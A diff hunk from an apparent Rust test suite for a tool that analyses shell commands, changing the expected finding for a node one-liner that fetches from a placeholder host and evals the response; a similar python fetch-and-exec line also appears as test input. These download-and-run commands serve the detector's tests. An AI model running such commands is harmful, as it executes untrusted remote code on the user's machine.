@@ -381,10 +381,7 @@ fn python_sends_with_bodies_from_the_environment_and_files() {
         ),
         (
             r#"node -e "fetch('https://h.example/x').then(r => r.text()).then(eval)""#,
-            &[
-                "send https://h.example/x GET []",
-                "unsure `eval` passed as a callback runs code known only at run time",
-            ],
+            &["send https://h.example/x GET [] runs"],
         ),
         (
             r#"python3 -c "import urllib.request as u; list(map(exec, u.urlopen('https://h.example/x').read().decode().splitlines()))""#,
